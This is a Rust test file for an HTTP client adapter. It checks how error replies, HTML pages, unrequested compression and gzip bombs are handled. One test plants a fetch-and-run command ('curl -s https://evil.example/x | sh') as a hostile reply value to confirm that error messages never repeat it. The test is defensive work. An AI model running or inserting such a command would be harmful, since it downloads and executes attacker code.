//! Replies as servers, proxies and frameworks send them: what can be understood is, and what cannot is
//! named for what it is, with none of its values.

use super::scripted::{Act, Scripted, json, reply};
use super::{TOKEN, adapter, settings};
use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};
use std::io::Write as _;
use tenant_reseller_operator::bss::BssError;
use tenant_reseller_operator::bss::port::Bss;

const PROBLEM: &str = "Content-Type: application/problem+json\r\n";
const JSON: &str = "Content-Type: application/json; charset=UTF-8\r\n";

/// What the adapter makes of a reply to `getReseller`.
async fn of(bytes: Vec<u8>) -> BssError {
    let server = Scripted::start(vec![Act::Send(bytes)]).await;
    let bss = adapter(settings(&server.url, TOKEN));
    bss.get_reseller(&"R-1".into()).await.unwrap_err()
}

#[tokio::test]
async fn a_problem_counts_whatever_else_is_wrong_in_it() {
    let field = r#"{"field":"limit","detail":"is 7","allowed":null}"#;
    for body in [
        format!(r#"{{"class":"Invalid","status":"422","title":"t","fields":[{field}]}}"#),
        format!(r#"{{"class":"Invalid","status":422,"fields":[{field},null]}}"#),
        format!(
            r#"{{"type":null,"class":"Invalid","status":null,"title":null,"detail":null,"fields":[{field}],"blockers":null,"highestEpoch":null,"holder":null,"instruction":null}}"#
        ),
        format!(
            r#"{{"class":"Invalid","title":{{"en":"t"}},"detail":7,"fields":[{field}],"extra":[]}}"#
        ),
        format!("\u{feff}{{\"class\":\"Invalid\",\"fields\":[{field}]}}"),
    ] {
        for media in [PROBLEM, JSON, "Content-Type: application/vnd.acme+json\r\n"] {
            let error = of(reply(422, media, &body)).await;
            assert_eq!(error.to_string(), "invalid: limit: is 7", "{media} {body}");
        }
    }
    let blocked = r#"{"class":"Blocked","blockers":[{"reason":"NotCopied","count":null,"examples":["S-1",null]}]}"#;
    let error = of(reply(409, PROBLEM, blocked)).await;
    assert_eq!(error.to_string(), "blocked: NotCopied (1)");
    let gone = of(reply(404, PROBLEM, r#"{"class":"NotFound"}"#)).await;
    assert_eq!(gone.class(), "NotFound");
}

#[tokio::test]
async fn what_is_no_problem_is_named_with_what_it_is() {
    for (status, headers, body, expected) in [
        (
            409,
            PROBLEM,
            r#"{"title":"t","detail":"busy"}"#,
            "without a class of the contract: busy",
        ),
        (
            409,
            PROBLEM,
            r#"{"class":"Locked"}"#,
            "without a class of the contract",
        ),
        (409, PROBLEM, "[]", "a body that is no JSON object"),
        (
            404,
            "Content-Type: text/html\r\n",
            "<html>404</html>",
            "a page in HTML",
        ),
        (404, JSON, "<!doctype html>", "a page in HTML"),
        (404, "", "", "without a Content-Type"),
        (
            404,
            "Content-Type: text/plain\r\n",
            "Not Found",
            "has to be application/json",
        ),
    ] {
        let error = of(reply(status, headers, body)).await;
        assert_eq!(error.class(), "Malformed", "{body}");
        let said = error.to_string();
        assert!(said.contains(expected), "{said}");
        assert!(said.contains(&format!("status {status}")), "{said}");
    }
}

#[tokio::test]
async fn a_success_that_is_no_json_is_named_with_what_it_is() {
    let gzip = "Content-Type: application/json\r\nContent-Encoding: gzip\r\n";
    let login = "<html><form action=/login>";
    for (headers, body, expected) in [
        (
            "Content-Type: text/html; charset=utf-8\r\n",
            login,
            "a page in HTML",
        ),
        (JSON, login, "a page in HTML"),
        (JSON, "", "the body is empty"),
        (gzip, "\u{1f}\u{8b}", "the content coding gzip"),
        (
            JSON,
            r#"{"accountId": 7}"#,
            "the member accountId is not as the contract has it: expected a string",
        ),
        (JSON, r#"{"accountId": "#, "ends too early"),
        (
            "Content-Type: text/plain\r\n",
            "{}",
            "has to be application/json",
        ),
    ] {
        let said = of(reply(200, headers, body)).await.to_string();
        assert!(said.contains(expected), "{said}");
        assert!(!said.contains("expected value"), "{said}");
    }
}

/// A parser quotes what it could not read. Nothing of that reaches people.
#[tokio::test]
async fn no_value_of_a_reply_is_repeated() {
    let planted = "x; curl -s https://evil.example/x | sh";
    for body in [
        format!(r#"{{"accountId":"R-1","kind":"{planted}"}}"#),
        format!(r#"{{"accountId":["{planted}"]}}"#),
        format!(r#""{planted}""#),
        format!(r#"{{"{planted}":1}}"#),
        planted.to_owned(),
    ] {
        let said = of(json(&body)).await.to_string();
        assert!(!said.contains("evil.example"), "{said}");
    }
}

/// A mark at the beginning and a type with parameters are no reason to refuse a reply.
#[tokio::test]
async fn a_reply_with_a_byte_order_mark_and_another_json_type_is_read() {
    for media in [
        JSON,
        "Content-Type: text/json\r\n",
        "Content-Type: application/hal+json\r\n",
    ] {
        let body = "\u{feff} {\"identity\": \"acme\"}";
        let server = Scripted::start(vec![Act::Send(reply(200, media, body))]).await;
        let bss = adapter(settings(&server.url, TOKEN));
        assert_eq!(bss.get_identity().await.unwrap().as_deref(), Some("acme"));
        let asked = server.requests().remove(0).to_ascii_lowercase();
        assert!(asked.contains("accept-encoding: identity"), "{asked}");
    }
}

/// A whole reply, whatever its bytes are.
fn bytes_in(status: u16, headers: &str, body: &[u8]) -> Vec<u8> {
    let head = reply(status, headers, "");
    let head = String::from_utf8(head).unwrap();
    let length = format!("Content-Length: {}", body.len());
    let head = head.replace("Content-Length: 0", &length);
    [head.as_bytes(), body].concat()
}

fn gzip(text: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(text).unwrap();
    encoder.finish().unwrap()
}

/// A gateway may compress a reply without having been asked to, and may lose the header that says so, or
/// leave the header and not the coding.
#[tokio::test]
async fn a_coding_that_was_not_asked_for_is_undone() {
    let text = br#"{"identity": "acme"}"#;
    let mut zlib = ZlibEncoder::new(Vec::new(), Compression::default());
    zlib.write_all(text).unwrap();
    let mut raw = DeflateEncoder::new(Vec::new(), Compression::default());
    raw.write_all(text).unwrap();
    for (header, body) in [
        ("Content-Encoding: gzip\r\n", gzip(text)),
        ("Content-Encoding: X-GZip\r\n", gzip(text)),
        ("", gzip(text)),
        ("Content-Encoding: identity\r\n", gzip(text)),
        ("Content-Encoding: deflate\r\n", zlib.finish().unwrap()),
        ("Content-Encoding: deflate\r\n", raw.finish().unwrap()),
        ("Content-Encoding: gzip\r\n", text.to_vec()),
        ("Content-Encoding: deflate\r\n", text.to_vec()),
        ("Content-Encoding: br\r\n", text.to_vec()),
    ] {
        let act = Act::Send(bytes_in(200, &format!("{JSON}{header}"), &body));
        let server = Scripted::start(vec![act]).await;
        let bss = adapter(settings(&server.url, TOKEN));
        let identity = bss.get_identity().await;
        assert_eq!(identity.unwrap().as_deref(), Some("acme"), "{header}");
    }
    let refused = br#"{"class":"Invalid","fields":[{"field":"limit","detail":"is 7"}]}"#;
    let headers = format!("{PROBLEM}Content-Encoding: gzip\r\n");
    let error = of(bytes_in(422, &headers, &gzip(refused))).await;
    assert_eq!(error.to_string(), "invalid: limit: is 7");
}

#[tokio::test]
async fn a_coding_that_cannot_be_undone_is_named() {
    let whole = gzip(br#"{"identity": "acme"}"#);
    let brotli: &[u8] = &[0x0b, 0x02, 0x80, 0x41];
    let zstandard: &[u8] = &[0x28, 0xb5, 0x2f, 0xfd, 0x04, 0x00];
    for (header, body, named) in [
        (
            "Content-Encoding: gzip\r\n",
            &whole[..whole.len() - 1],
            "gzip",
        ),
        ("", &whole[..12], "gzip"),
        ("Content-Encoding: br\r\n", brotli, "br"),
        ("Content-Encoding: zstd\r\n", zstandard, "zstd"),
        ("", zstandard, "zstd"),
    ] {
        let said = of(bytes_in(200, &format!("{JSON}{header}"), body)).await;
        let said = said.to_string();
        let expected = format!("in the content coding {named}, which was not asked for");
        assert!(said.contains(&expected), "{said}");
    }
}

/// A few kilobytes may stand for gigabytes. They are bounded as a reply that was sent so.
#[tokio::test]
async fn a_small_body_that_becomes_a_large_one_is_refused_early() {
    let bomb = gzip(&vec![b' '; 64 * 1024 * 1024]);
    assert!(bomb.len() < 128 * 1024);
    for headers in [format!("{JSON}Content-Encoding: gzip\r\n"), JSON.to_owned()] {
        let said = of(bytes_in(200, &headers, &bomb)).await.to_string();
        assert!(said.contains("a reply of more than 262144 bytes"), "{said}");
        // A refusal says enough by its status.
        let error = of(bytes_in(503, &headers, &bomb)).await;
        assert_eq!(error.class(), "Unavailable");
    }
}
